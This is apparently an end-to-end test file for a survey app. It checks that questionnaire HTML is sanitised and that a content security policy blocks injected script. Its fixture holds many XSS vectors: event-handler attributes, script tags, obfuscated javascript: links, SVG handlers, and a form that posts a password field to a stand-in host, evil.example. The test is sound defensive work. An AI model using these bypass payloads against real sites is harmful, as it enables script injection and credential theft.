// Script smuggled into a questionnaire (its HTML, titles, completion page) never runs in a
// respondent's browser: questionnaire HTML is purified (DOMPurify) where survey-core renders it,
// and the page's content security policy admits no inline script or handler anyway.
import { useTestDatabase } from '../helpers/db';
import { useBrowserApp } from '../helpers/e2e';
import { createOpenWave } from '../helpers/fixtures';
import { QuestionnaireModel } from '../../server/src/questionnaires/questionnaire.model';

useTestDatabase({ demo: false });

const PAYLOAD = {
  title: { ru: 'Анкета <img src=x onerror="window.__xss=1">', en: 'Q <img src=x onerror="window.__xss=1">' },
  completedHtml: '<h3>Спасибо</h3><img src=x onerror="window.__xss=6"><script>window.__xss=7</script>',
  pages: [
    {
      name: 'p1',
      elements: [
        {
          type: 'html',
          name: 'intro',
          html:
            '<p id="intro">Текст</p><script>window.__xss=2</script><img src=x onerror="window.__xss=3"><a id="jslink" href="javascript:window.__xss=4">ссылка</a><svg><animate onbegin="window.__xss=8" attributeName="x" dur="1s"/></svg>' +
            // Variants that passed the old pattern filter: unusual separators, an entity-encoded
            // javascript: link, a style sheet, a form posting elsewhere.
            '<svg/onload="window.__xss=10"></svg><img src="x"/onerror="window.__xss=11">' +
            '<a id="entlink" href="&#106;avascript&colon;window.__xss=12">ещё ссылка</a>' +
            '<style>#intro{display:none}</style>' +
            '<form id="evilform" action="https://evil.example/steal"><input name="pw"><button id="evilbtn">OK</button></form>',
        },
        { type: 'dropdown', name: 'region', lsgRole: 'region', choices: ['RU-VLG'], isRequired: true },
        { type: 'text', name: 'note', title: '<img src=x onerror="window.__xss=5"> Примечание' },
      ],
    },
  ],
};

const e2e = useBrowserApp();

beforeAll(async () => {
  // Stored directly, as if it had reached the database before any upload check existed.
  const json = JSON.stringify(PAYLOAD);
  await QuestionnaireModel.create({
    _id: 'xss@1',
    key: 'xss',
    version: 1,
    title: { ru: 'x', en: 'x', uk: 'x' },
    definitionJson: json,
    hash: 'h',
    source: 'upload',
    createdAt: new Date(),
  });
  await createOpenWave('xss@1', {
    code: 'xss-wave',
    title: { ru: 'XSS', en: 'XSS', uk: 'XSS' },
    scope: { countries: ['RU'], regions: [] },
  });
});

it('no script from the questionnaire runs: its HTML is purified where it is rendered, and the policy stays', async () => {
  const page = await e2e.browser.newPage();
  const response = await page.goto(`${e2e.baseUrl}/w/xss-wave`);
  expect(response?.headers()['content-security-policy']).toMatch(/script-src 'self'/);
  expect(response?.headers()['content-security-policy']).toMatch(/script-src-attr 'none'/);
  // The <style> of the questionnaire would hide #intro: it was removed.
  await page.locator('#intro').waitFor({ state: 'visible', timeout: 15_000 });
  const rendered = await page.evaluate(() => {
    type El = {
      tagName: string;
      attributes: Iterable<{ name: string }>;
      parentElement: El | null;
      querySelectorAll(selector: string): Iterable<El> & { length: number };
      getAttribute(name: string): string | null;
      textContent: string | null;
    };
    const doc = (globalThis as unknown as { document: { querySelector(selector: string): El | null } }).document;
    const root = doc.querySelector('#intro')!.parentElement!;
    return {
      handlers: [...root.querySelectorAll('*')].flatMap((el) =>
        [...el.attributes].filter((a) => a.name.startsWith('on')).map((a) => `${el.tagName}.${a.name}`),
      ),
      scripts: root.querySelectorAll('script, style, form, input, iframe').length,
      links: [...root.querySelectorAll('a')].map((a) => a.getAttribute('href')),
      text: root.textContent,
    };
  });
  expect(rendered.handlers).toEqual([]);
  expect(rendered.scripts).toBe(0);
  expect(rendered.links).toEqual([null, null]); // both javascript: links lost their href
  expect(rendered.text).toContain('ещё ссылка');
  await page.locator('#jslink').click();
  await page.locator('#entlink').click();
  await page.waitForTimeout(500);
  expect(await page.evaluate(() => (globalThis as unknown as { __xss?: number }).__xss)).toBeUndefined();
  // The respondent can still answer and finish; the completion page's script does not run either.
  await page.locator('[data-name="region"] .sd-dropdown').click();
  await page.getByRole('option', { name: 'RU-VLG' }).click();
  await page.locator('[data-name="note"] input').fill('<img src=x onerror="window.__xss=9">');
  await page
    .locator('.sd-navigation__complete-btn, input[type=button][value], button')
    .filter({ hasText: /Готово|Complete|Отправить/ })
    .first()
    .click();
  await page.getByTestId('submit-confirmation').waitFor({ state: 'visible', timeout: 15_000 });
  await page.waitForTimeout(300);
  expect(await page.evaluate(() => (globalThis as unknown as { __xss?: number }).__xss)).toBeUndefined();
  await page.close();
}, 120_000);
